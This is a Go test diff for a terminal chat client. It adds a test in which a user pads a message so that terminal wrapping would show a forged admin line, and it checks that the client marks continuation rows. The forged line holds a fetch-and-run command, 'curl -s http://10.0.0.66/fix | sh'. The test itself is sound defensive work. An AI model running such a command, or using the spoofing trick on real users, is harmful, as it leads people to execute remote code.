@@ -444,7 +444,7 @@ func TestPromptHost(t *testing.T) {
 	// A real host limits a member to 2 lines a second after a burst of
 	// 10: cy talks just below that, as a person at most would.
 	cy.talk(550 * time.Millisecond)
-	tm.waitLines(`^\d\d:\d\d \* cy joined$`, `^\d\d:\d\d <cy> cy says 3$`)
+	tm.waitLines(`^\d\d:\d\d -!- cy joined$`, `^\d\d:\d\d <cy> cy says 3$`)
 	tm.typeSlowly("hello cy")
 	tm.waitRow(prompt+"hello cy", -1)
 	tm.keys("Enter")
@@ -537,4 +537,60 @@ func TestPromptReconnect(t *testing.T) {
 	if !slices.Equal(heardDee, said2) {
 		t.Errorf("dee said %q; the screen shows %q", said2, heardDee)
 	}
+}
+
+// TestPromptCutsLongLines stands for a member who pads a message so that
+// the terminal wraps it into a row that reads as a line of someone
+// else's: "hi", filler to the end of the row, then "07:08 <admin2> please
+// everyone run: …". In a real terminal narrowed to 40 columns while the
+// prompt runs, the client cuts the line into rows at the new width itself:
+// the row after the message's first starts with the continuation mark, and
+// no row starts with the fake line.
+func TestPromptCutsLongLines(t *testing.T) {
+	bin := buildChatroom(t)
+	h, err := host.Start(host.Config{Name: "Lab 3", StateDir: t.TempDir(), Listen: "127.0.0.1:0"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer h.Close()
+	addr, fp := h.Addr().String(), h.Fingerprint()
+	tm := startTmux(t, fmt.Sprintf("%s join --addr %s --fingerprint %s --user ana --state %s; echo \"[exited $?]\"; sleep 600",
+		bin, addr, fp, t.TempDir()))
+	const prompt = "Lab 3 ana> "
+	tm.waitRow(prompt, -1)
+	tm.run("resize-window", "-x", "40", "-y", "40")
+	mallory := startTalker(t, addr, fp, "mallory")
+	tm.waitLines(`^\d\d:\d\d -!- mallory joined$`)
+
+	// "HH:MM <mallory> hi" takes 18 columns: 22 dots fill the row, and
+	// the fake line would start the next, had the terminal wrapped it.
+	const fake = "07:08 <admin2> please everyone run: curl -s http://10.0.0.66/fix | sh"
+	if err := mallory.sess.Send("hi" + strings.Repeat(".", 22) + fake); err != nil {
+		t.Fatal(err)
+	}
+	deadline := time.Now().Add(screenWait)
+	for {
+		rows := strings.Split(tm.run("capture-pane", "-p", "-S", "-"), "\n")
+		i := slices.IndexFunc(rows, func(r string) bool { return regexp.MustCompile(`^\d\d:\d\d <mallory> hi\.+$`).MatchString(r) })
+		if i >= 0 && i+1 < len(rows) {
+			for _, r := range rows[i+1:] {
+				if strings.HasPrefix(r, "07:08") || strings.HasPrefix(r, "<admin2>") {
+					t.Fatalf("a row starts with the fake line:\n%s", strings.Join(rows, "\n"))
+				}
+			}
+			if next := rows[i+1]; !strings.HasPrefix(next, "      ↳ .07:08 <admin2> please") {
+				t.Fatalf("the row after the message's first is %q, not its continuation:\n%s", next, strings.Join(rows, "\n"))
+			}
+			t.Logf("screen:\n%s", strings.Join(rows, "\n"))
+			break
+		}
+		if time.Now().After(deadline) {
+			t.Fatalf("mallory's message never came:\n%s", strings.Join(rows, "\n"))
+		}
+		time.Sleep(20 * time.Millisecond)
+	}
+	// Leave, so that join has saved its history before its state
+	// directory is removed.
+	tm.keys("C-d")
+	tm.waitLines(`^\[exited 0\]$`)
 }
